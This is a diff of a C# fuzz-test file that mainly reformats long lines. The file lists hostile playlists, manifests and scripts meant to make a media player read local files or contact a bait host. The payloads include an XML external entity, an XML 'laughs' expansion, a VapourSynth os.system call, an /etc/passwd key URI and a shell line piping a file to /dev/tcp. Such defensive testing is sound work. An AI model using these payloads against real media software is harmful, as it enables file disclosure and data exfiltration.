@@ -2,7 +2,9 @@ using System.Text;
 
 namespace CryApi.Fuzz.Tests;
 
-/// <summary>Playlists, manifests and scripts that make a media player open other files or addresses, alone and behind the magic of a format.</summary>
+/// <summary>
+/// Playlists, manifests and scripts that make a media player open other files or addresses, alone and behind the magic of a format.
+/// </summary>
 internal static class TextFiles
 {
     /// <summary>All of them.</summary>
@@ -17,23 +19,28 @@ internal static class TextFiles
         Text("HLS of a pipe", _ => Hls("pipe:0")),
         Text("HLS with a key", bait => Hls($"http://{bait.Host}/a.ts", "#EXT-X-KEY:METHOD=AES-128,URI=\"file:///etc/passwd\"\n")),
         Text("HLS with a map", bait => Hls($"file://{bait.File}", $"#EXT-X-MAP:URI=\"file://{bait.File}\"\n")),
-        Text("nested HLS", bait => $"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{bait.Host}/b.m3u8\n#EXT-X-STREAM-INF:BANDWIDTH=2\nfile://{bait.File}\n"),
+        Text("nested HLS",
+            bait => $"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{bait.Host}/b.m3u8\n#EXT-X-STREAM-INF:BANDWIDTH=2\nfile://{bait.File}\n"),
         Text("HLS with a byte order mark", bait => $"\uFEFF{Hls($"http://{bait.Host}/a.ts")}"),
         Text("concat line", bait => $"concat:{bait.File}|{bait.File}"),
         Text("ffconcat", bait => $"ffconcat version 1.0\nfile '{bait.File}'\n"),
         Text("ffconcat with options", bait => $"ffconcat version 1.0\nfile 'http://{bait.Host}/a.wav'\noption safe 0\n"),
         Text("ffmetadata", _ => ";FFMETADATA1\ntitle=$(id)\n[STREAM]\n"),
-        Text("SDP", bait => $"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio {bait.Host.Split(':')[1]} RTP/AVP 0\n"),
+        Text("SDP",
+            bait => $"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio {bait.Host.Split(':')[1]} RTP/AVP 0\n"),
         Text("DASH", bait => Dash($"http://{bait.Host}/a.mp4")),
         Text("DASH of a file", bait => Dash($"file://{bait.File}")),
         Text("pls", bait => $"[playlist]\nNumberOfEntries=1\nFile1={bait.File}\n"),
-        Text("xspf", bait => $"<?xml version=\"1.0\"?><playlist version=\"1\"><trackList><track><location>file://{bait.File}</location></track></trackList></playlist>"),
-        Text("XML that opens a file", bait => $"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file://{bait.File}\">]><MPD>&x;</MPD>"),
+        Text("xspf",
+            bait => $"<?xml version=\"1.0\"?><playlist version=\"1\"><trackList><track><location>file://{bait.File}</location></track></trackList></playlist>"),
+        Text("XML that opens a file",
+            bait => $"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file://{bait.File}\">]><MPD>&x;</MPD>"),
         Text("XML that multiplies", _ => Laughs()),
         Text("IMF", bait => $"<?xml version=\"1.0\"?><CompositionPlaylist xmlns=\"http://{bait.Host}/\"/>"),
         Text("AviSynth", bait => $"DirectShowSource(\"{bait.File}\")"),
         Text("VapourSynth", bait => $"import os\nos.system('cat {bait.File}')\n"),
-        Text("Smooth Streaming", bait => $"<SmoothStreamingMedia><StreamIndex Url=\"http://{bait.Host}/{{start time}}\"/></SmoothStreamingMedia>"),
+        Text("Smooth Streaming",
+            bait => $"<SmoothStreamingMedia><StreamIndex Url=\"http://{bait.Host}/{{start time}}\"/></SmoothStreamingMedia>"),
         Text("RealText", bait => $"<asx version=\"3.0\"><entry><ref href=\"http://{bait.Host}/a.wma\"/></entry></asx>"),
         Text("shell", bait => $"#!/bin/sh\ncat {bait.File} > /dev/tcp/{bait.Host.Replace(':', '/')}\n"),
         Text("options", _ => "-i /etc/passwd -f data -"),
@@ -52,7 +59,8 @@ internal static class TextFiles
         Behind("HLS behind a WAV head", [.. "RIFF\0\0\0\0WAVE"u8]),
     ];
 
-    private static HostileFile Text(string name, Func<Bait, string> text) => new(name, bait => Encoding.UTF8.GetBytes(text(bait)), HostileFiles.Refused);
+    private static HostileFile Text(string name, Func<Bait, string> text) =>
+        new(name, bait => Encoding.UTF8.GetBytes(text(bait)), HostileFiles.Refused);
 
     private static HostileFile Behind(string name, byte[] head) =>
         new(name, bait => [.. head, .. Encoding.UTF8.GetBytes(Hls($"file://{bait.File}"))], HostileFiles.Unusable);
@@ -61,7 +69,8 @@ internal static class TextFiles
         $"#EXTM3U\n#EXT-X-VERSION:6\n#EXT-X-TARGETDURATION:10\n{before}#EXTINF:10.0,\n{address}\n#EXT-X-ENDLIST\n";
 
     private static string Dash(string address) => $"""
-        <?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S"><Period><AdaptationSet mimeType="audio/mp4">
+        <?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S">
+        <Period><AdaptationSet mimeType="audio/mp4">
         <Representation id="1" bandwidth="1"><BaseURL>{address}</BaseURL></Representation></AdaptationSet></Period></MPD>
         """;
 
